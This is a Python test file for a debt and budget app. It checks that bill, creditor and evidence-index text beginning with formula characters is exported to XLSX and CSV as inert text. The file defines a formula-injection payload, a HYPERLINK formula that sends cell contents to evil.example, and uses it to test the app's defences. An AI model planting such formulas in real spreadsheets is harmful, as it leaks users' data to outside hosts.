"""Exports that are data (core/formulas.py, documents/cell_text.py, evidence/index.py): text from bills, creditors
and the evidence index that starts with =, +, -, @, a tab or a carriage return is written as text in every
export — the budget's export.xlsx, the plan's export.xlsx and the bundle's 证据目录.csv — and no label of the
app's own starts with one of them."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from xieshang.casefile.budget import statement_from_dict
from xieshang.core.allocation import Strategy
from xieshang.core.formulas import FORMULA_STARTS, csv_field
from xieshang.core.options import DebtPosition, Settlement
from xieshang.core.plan import CreditorChoice, PlanSpec, build_plan
from xieshang.core.terms import LenderType
from xieshang.core.transactions import Direction, Transaction
from xieshang.documents.plan_xlsx import plan_workbook
from xieshang.documents.statement_xlsx import budget_template, export_statement
from xieshang.evidence.index import IndexRow, index_csv
from xieshang.reference import plan_limits

PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"点这里")'
STARTS = {"=": "equals", "+": "plus", "-": "minus", "@": "at", "\t": "tab", "\r": "cr"}


def hostile(start: str) -> str:
    return f"{start}{PAYLOAD}"


def formulas_in(data: bytes) -> list[str]:
    """Every <f> element (a live formula) in the workbook's sheets, read from the XML itself."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            found
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for found in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
        ]


def texts(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [
        c.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]


def test_every_dangerous_start_is_covered() -> None:
    assert set(FORMULA_STARTS) == set(STARTS)


@pytest.mark.parametrize("start", list(STARTS), ids=list(STARTS.values()))
def test_the_budget_export_keeps_bill_text_as_text(start: str) -> None:
    """A merchant, a transfer note and a statement note that start like formulas."""
    statement = statement_from_dict(
        {
            "household": {"adults": 1},
            "income": [{"category": "salary", "amount": "5000.00", "note": hostile(start)}],
            "expenses": [{"category": "housing", "amount": "1500.00"}],
        }
    )
    bill = Transaction(
        source="alipay",
        order_id=hostile(start),
        time=datetime(2026, 3, 1, 12, 0),  # noqa: DTZ001 - bills are naive local time
        amount=Decimal("12.50"),
        direction=Direction.EXPENSE,
        counterparty=hostile(start),
        description=hostile(start),
    )
    data = export_statement(statement, [bill])
    assert formulas_in(data) == []
    values = texts(data)
    assert values.count(hostile(start)) == 4  # note, order id, counterparty, description: kept as written
    book = load_workbook(io.BytesIO(data))
    cell = next(c for row in book["交易明细"].iter_rows() for c in row if c.value == hostile(start))
    assert cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("start", list(STARTS), ids=list(STARTS.values()))
def test_the_plan_export_keeps_creditor_names_as_text(start: str) -> None:
    positions = (
        DebtPosition(
            "app-1",
            hostile(start),
            LenderType.ONLINE_PLATFORM,
            Decimal("1000.00"),
            monthly_rate=Decimal("0.02"),
        ),
    )
    spec = PlanSpec(
        Strategy.PRO_RATA, Decimal(800), choices=(CreditorChoice("app-1", Settlement(Decimal("0.6"))),)
    )
    plan = build_plan(positions, spec, date(2026, 11, 28), plan_limits())
    data = plan_workbook(plan, {"app-1": hostile(start)})
    assert formulas_in(data) == []
    assert hostile(start) in texts(data)


@pytest.mark.parametrize("start", list(STARTS), ids=list(STARTS.values()))
def test_the_evidence_index_csv_writes_every_field_as_text(start: str) -> None:
    row = IndexRow(1, hostile(start), hostile(start), "2026-03-01 22:30", hostile(start), "files/001-ab.mp3")
    rows = list(csv.reader(io.StringIO(index_csv([row]).decode("utf-8-sig"))))
    assert rows[1][1] == rows[1][2] == rows[1][4] == f"'{hostile(start)}"
    assert rows[1][3] == "2026-03-01 22:30" and rows[1][0] == "1"


def test_ordinary_text_is_left_alone() -> None:
    assert csv_field("某银行") == "某银行" and csv_field("1066.19") == "1066.19"
    assert csv_field("＝全角等号") == "＝全角等号"  # full-width: no spreadsheet reads it as a formula


def test_no_label_of_the_app_starts_like_a_formula() -> None:
    """The working of the statement used to say "= 可用于无担保债务" (a broken formula in Excel)."""
    statement = statement_from_dict(
        {"household": {"adults": 1}, "income": [{"category": "salary", "amount": "5000.00"}], "expenses": []}
    )
    for data in (export_statement(statement), budget_template()):
        assert formulas_in(data) == []
        assert [t for t in texts(data) if t.startswith(FORMULA_STARTS)] == []
    assert any(t.startswith("＝ 每月可用于还无担保债务") for t in texts(export_statement(statement)))
